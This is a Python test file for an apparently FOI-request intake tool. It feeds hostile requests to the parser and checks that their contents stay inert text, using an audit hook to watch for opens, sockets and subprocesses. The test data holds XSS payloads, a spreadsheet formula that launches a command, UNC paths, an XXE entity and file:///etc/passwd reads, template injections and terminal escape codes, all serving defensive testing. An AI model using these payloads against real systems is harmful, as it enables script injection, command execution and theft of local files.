"""A hostile request at the door: its words come through as words, and nothing in them is fetched, opened or run."""

import json
import sys

import pytest

from foidesk import worker
from foidesk.cli import run
from foidesk.desk.intake import read_file
from foidesk.errors import UserError

LINES = {
    "image tag": '1. How much is <img src="http://198.51.100.7/a.png" onerror="alert(1)"> each year?',
    "UNC path": "2. Why is \\\\198.51.100.7\\share\\a.docx kept, and file:///etc/passwd?",
    "emoji": "3. How many 😀 \U0001f469\u200d\U0001f4bb \U000e0041 are there?",
    "bidi": "4. Who signed \u202efdp.exe\u202c and \u2066a\u2069?",
    "script link": "5. What is [this](javascript:alert(1)) and <a href='javascript:alert(1)'>that</a>?",
    "formula": '6. =HYPERLINK("http://198.51.100.7/?x="&A1,"How many?") +cmd|\'/c calc\'!A1 @SUM(1)',
    "zero width": "7. Is the wo\u200brd\ufeff pass\u00adword known?",
    "template": "8. What do {{7*7}}, ${x}, %n%s and ../../etc/passwd mean?",
    "escape": "9. Is \x1b[31mred\x1b[0m \x07 allowed?",
}
TEXT = "Dear Midshire Police,\n\n" + "\n".join(LINES.values()) + "\n\nYours faithfully,\n<b>Jordan</b> Ellis\n"


def as_mail(text):
    head = 'From: "<script>x</script>" <jordan.ellis@example.org>\r\nSubject: =HYPERLINK(1) <img src=x>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n'
    return (head + text.replace("\n", "\r\n")).encode()


@pytest.fixture(params=["request.txt", "request.eml"])
def hostile(request, tmp_path):
    path = tmp_path / request.param
    path.write_bytes(as_mail(TEXT) if path.suffix == ".eml" else TEXT.encode())
    return path


@pytest.mark.parametrize("kind", LINES)
def test_hostile_words_survive_as_words(hostile, kind):
    found = read_file(hostile)
    line = LINES[kind]
    number = list(LINES).index(kind)
    assert line in found.text
    assert found.questions[number].text == line.split(". ", 1)[1]


def test_a_hostile_sender_and_subject_are_words_too(tmp_path):
    path = tmp_path / "a.eml"
    path.write_bytes(as_mail(TEXT))
    found = read_file(path)
    assert (found.subject, found.requester.email) == ("=HYPERLINK(1) <img src=x>", "jordan.ellis@example.org")


def test_the_json_of_a_hostile_request_is_one_document(hostile, capsys):
    assert run(["intake", str(hostile), "--json"], lambda *_: 0) == 0
    assert len(json.loads(capsys.readouterr().out)["questions"]) == len(LINES)


def test_a_terminal_is_not_steered_by_a_request(hostile, capsys):
    run(["intake", str(hostile)], lambda *_: 0)
    shown = capsys.readouterr().out
    assert not {"\x1b", "\x07", "\u202e", "\u2066"} & set(shown)
    assert "[31mred" in shown


@pytest.mark.parametrize(
    "body",
    [
        '<img src="http://198.51.100.7/a.png"><p>How many?</p><iframe src="file:///etc/passwd"></iframe>',
        '<link rel=stylesheet href="//198.51.100.7/a.css"><p>How many?</p><script src="//198.51.100.7/a.js"></script>',
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>How many?&e;</p>",
        '<object data="\\\\198.51.100.7\\a"></object><p>How many?</p><meta http-equiv=refresh content="0;url=http://198.51.100.7/">',
    ],
)
def test_reading_html_opens_nothing(tmp_path, monkeypatch, body):
    """The worker itself says whether anything but its own modules was opened, connected to or started while it read."""
    watch = (
        "import os, sys; from foidesk import worker; from foidesk.intake import tasks; from zoneinfo import ZoneInfo; import encodings.idna\n"
        "seen = []\n"
        "watched = ('open', 'socket.', 'subprocess.', 'os.system', 'os.exec', 'os.fork', 'os.posix_spawn', 'webbrowser', 'urllib', 'ctypes')\n"
        "read = tasks.read_request\n"
        "def reading(data, **given):\n"
        "    sys.addaudithook(lambda event, given: seen.append([event, str(given[0])]) if event.startswith(watched) else None)\n"
        "    found = read(data, **given)\n"
        "    strange = [item for item in seen if not item[1].endswith(('.py', '.pyc', '.so'))]\n"
        "    return {**found, 'warnings': [str(strange)]}\n"
        "tasks.read_request = reading\n"
        "os._exit(worker.main())"
    )
    monkeypatch.setattr(worker, "_command", lambda: [sys.executable, "-P", "-c", watch])
    path = tmp_path / "a.eml"
    path.write_bytes(b"From: a@example.org\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body.encode())
    found = read_file(path)
    assert found.questions[0].text.startswith("How many?")
    assert found.warnings == ("[]",)


@pytest.mark.parametrize("text", [b"How many\0?", b"\xff\xfe" + "How many\0?".encode("utf-16-le"), b"\xff\xfe\x00\xd8 \x00"])
def test_what_no_text_has_is_refused_at_the_door(tmp_path, text):
    path = tmp_path / "a.txt"
    path.write_bytes(text)
    with pytest.raises(UserError, match="characters that"):
        read_file(path)
